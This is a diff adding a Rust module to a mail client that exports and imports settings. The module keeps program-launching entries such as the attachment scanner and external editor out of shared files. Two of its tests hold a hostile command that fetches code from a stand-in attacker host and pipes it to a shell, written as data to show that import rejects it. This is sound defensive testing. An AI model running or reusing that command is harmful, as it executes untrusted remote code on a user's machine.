@@ -0,0 +1,230 @@
+//! File → Export settings / Import settings: settings.json as a file to
+//! share or carry to another machine.
+//!
+//! The export wraps the settings in a versioned envelope so filing rules can
+//! join it once there is a rule engine. Only the entries listed in
+//! `with_shared` travel; everything else (last save directory, developer
+//! switches, the attachment scanner and external editor commands) is left
+//! out of the export and kept on import, so a shared file can't make the
+//! app run a program and a new setting stays local until it's listed.
+//! Per-account entries are keyed by account id and only take effect
+//! where an account with the same id exists.
+
+use std::path::PathBuf;
+
+use cosmic::app::Task;
+use cosmic::dialog::file_chooser;
+use serde::{Deserialize, Serialize};
+
+use super::toasts::Severity;
+use super::{AppModel, AppSettings, Message};
+
+const EXPORT_VERSION: u32 = 1;
+const EXPORT_FILE_NAME: &str = "neverlight-mail-settings.json";
+
+#[derive(Debug, Serialize, Deserialize)]
+struct SettingsExport {
+    version: u32,
+    settings: AppSettings,
+}
+
+/// `local` with the shareable entries of `shared`.
+fn with_shared(local: &AppSettings, shared: AppSettings) -> AppSettings {
+    AppSettings {
+        sync_intervals: shared.sync_intervals,
+        internal_domains: shared.internal_domains,
+        detect_events: shared.detect_events,
+        quoting: shared.quoting,
+        flag_conflict_policy: shared.flag_conflict_policy,
+        paused_accounts: shared.paused_accounts,
+        pause_schedules: shared.pause_schedules,
+        archive_folders: shared.archive_folders,
+        confirm_recipients_over: shared.confirm_recipients_over,
+        account_groups: shared.account_groups,
+        account_colors: shared.account_colors,
+        dangerous_attachments: shared.dangerous_attachments,
+        paging: shared.paging,
+        folder_paging: shared.folder_paging,
+        layout_presets: shared.layout_presets,
+        quick_look_key: shared.quick_look_key,
+        notifications: shared.notifications,
+        reply_target: shared.reply_target,
+        send_size_limits: shared.send_size_limits,
+        prefetch: shared.prefetch,
+        ..local.clone()
+    }
+}
+
+/// `settings` without what only makes sense on this machine.
+fn shareable(settings: &AppSettings) -> AppSettings {
+    with_shared(&AppSettings::default(), settings.clone())
+}
+
+/// `incoming` with this machine's local entries from `current`.
+fn imported(current: &AppSettings, incoming: AppSettings) -> AppSettings {
+    with_shared(current, incoming)
+}
+
+fn to_export_json(settings: &AppSettings) -> Result<String, String> {
+    let export = SettingsExport {
+        version: EXPORT_VERSION,
+        settings: shareable(settings),
+    };
+    serde_json::to_string_pretty(&export).map_err(|e| e.to_string())
+}
+
+fn from_export_json(text: &str) -> Result<AppSettings, String> {
+    let export: SettingsExport =
+        serde_json::from_str(text).map_err(|e| format!("Not a settings export: {e}"))?;
+    if export.version > EXPORT_VERSION {
+        return Err(format!(
+            "Exported by a newer version (format {}); update to import it",
+            export.version
+        ));
+    }
+    Ok(export.settings)
+}
+
+async fn export_with_dialog(json: String, dir: PathBuf) -> Message {
+    let dialog = file_chooser::save::Dialog::new()
+        .title("Export settings")
+        .current_folder(&dir)
+        .current_name(EXPORT_FILE_NAME);
+    let url = match dialog.save_file().await {
+        Ok(response) => match response.url() {
+            Some(url) => url.clone(),
+            None => return Message::Noop,
+        },
+        Err(file_chooser::Error::Cancelled) => return Message::Noop,
+        Err(e) => return Message::SettingsExported(Err(format!("File picker error: {e}"))),
+    };
+    let Ok(path) = url.to_file_path() else {
+        return Message::SettingsExported(Err(format!("Not a local path: {url}")));
+    };
+    match tokio::fs::write(&path, json).await {
+        Ok(()) => Message::SettingsExported(Ok(path)),
+        Err(e) => Message::SettingsExported(Err(format!("Export failed: {e}"))),
+    }
+}
+
+async fn import_with_dialog(dir: PathBuf) -> Message {
+    let dialog = file_chooser::open::Dialog::new()
+        .title("Import settings")
+        .current_folder(&dir);
+    let url = match dialog.open_file().await {
+        Ok(response) => response.url().clone(),
+        Err(file_chooser::Error::Cancelled) => return Message::Noop,
+        Err(e) => return Message::SettingsImported(Err(format!("File picker error: {e}"))),
+    };
+    let Ok(path) = url.to_file_path() else {
+        return Message::SettingsImported(Err(format!("Not a local path: {url}")));
+    };
+    let result = match tokio::fs::read_to_string(&path).await {
+        Ok(text) => from_export_json(&text),
+        Err(e) => Err(format!("{}: {e}", path.display())),
+    };
+    Message::SettingsImported(result.map(Box::new))
+}
+
+impl AppModel {
+    pub(super) fn handle_settings_transfer(&mut self, message: Message) -> Task<Message> {
+        match message {
+            Message::ExportSettings => match to_export_json(&self.settings) {
+                Ok(json) => {
+                    return cosmic::task::future(export_with_dialog(json, self.save_dir()));
+                }
+                Err(e) => self.set_status_error(format!("Export failed: {e}")),
+            },
+            Message::ImportSettings => {
+                return cosmic::task::future(import_with_dialog(self.save_dir()));
+            }
+            Message::SettingsExported(Ok(path)) => {
+                self.notify(Severity::Info, format!("Settings exported to {}", path.display()));
+            }
+            Message::SettingsImported(Ok(incoming)) => {
+                self.settings = imported(&self.settings, *incoming);
+                if let Err(e) = self.settings.save() {
+                    log::warn!("Failed to save settings: {}", e);
+                }
+                self.notify(Severity::Info, "Settings imported");
+                return self.apply_pause_states();
+            }
+            Message::SettingsExported(Err(e)) | Message::SettingsImported(Err(e)) => {
+                log::error!("Settings transfer failed: {}", e);
+                self.set_status_error(e);
+            }
+            _ => {}
+        }
+        Task::none()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn sample_settings() -> AppSettings {
+        AppSettings {
+            confirm_recipients_over: 5,
+            account_groups: [("acct-1".to_string(), "Work".to_string())].into(),
+            last_save_dir: Some(PathBuf::from("/home/me/Downloads")),
+            developer_mode: true,
+            attachment_scanner: Some("clamscan --no-summary -".into()),
+            external_editor: Some("gvim -f".into()),
+            ..AppSettings::default()
+        }
+    }
+
+    #[test]
+    fn export_round_trips_without_local_entries() {
+        let json = to_export_json(&sample_settings()).unwrap();
+        let back = from_export_json(&json).unwrap();
+        assert_eq!(back.confirm_recipients_over, 5);
+        assert_eq!(back.account_groups.get("acct-1").map(String::as_str), Some("Work"));
+        assert_eq!(back.last_save_dir, None);
+        assert!(!back.developer_mode);
+        assert_eq!(back.attachment_scanner, None);
+        assert_eq!(back.external_editor, None);
+    }
+
+    #[test]
+    fn import_keeps_this_machines_local_entries() {
+        let current = sample_settings();
+        let merged = imported(&current, AppSettings::default());
+        assert_eq!(merged.confirm_recipients_over, AppSettings::default().confirm_recipients_over);
+        assert_eq!(merged.last_save_dir, current.last_save_dir);
+        assert!(merged.developer_mode);
+    }
+
+    #[test]
+    fn import_cannot_set_the_attachment_scanner() {
+        let incoming = AppSettings {
+            attachment_scanner: Some("sh -c 'curl evil.example | sh'".into()),
+            ..AppSettings::default()
+        };
+        let merged = imported(&AppSettings::default(), incoming);
+        assert_eq!(merged.attachment_scanner, None);
+        let current = sample_settings();
+        let merged = imported(&current, AppSettings::default());
+        assert_eq!(merged.attachment_scanner, current.attachment_scanner);
+    }
+
+    #[test]
+    fn import_cannot_set_the_external_editor() {
+        let incoming = AppSettings {
+            external_editor: Some("sh -c 'curl evil.example | sh'".into()),
+            ..AppSettings::default()
+        };
+        let merged = imported(&AppSettings::default(), incoming);
+        assert_eq!(merged.external_editor, None);
+        let current = sample_settings();
+        let merged = imported(&current, AppSettings::default());
+        assert_eq!(merged.external_editor, current.external_editor);
+    }
+
+    #[test]
+    fn newer_or_foreign_files_are_refused() {
+        assert!(from_export_json(r#"{"version":2,"settings":{}}"#).is_err());
+        assert!(from_export_json(r#"{"sync_intervals":{}}"#).is_err());
+    }
+}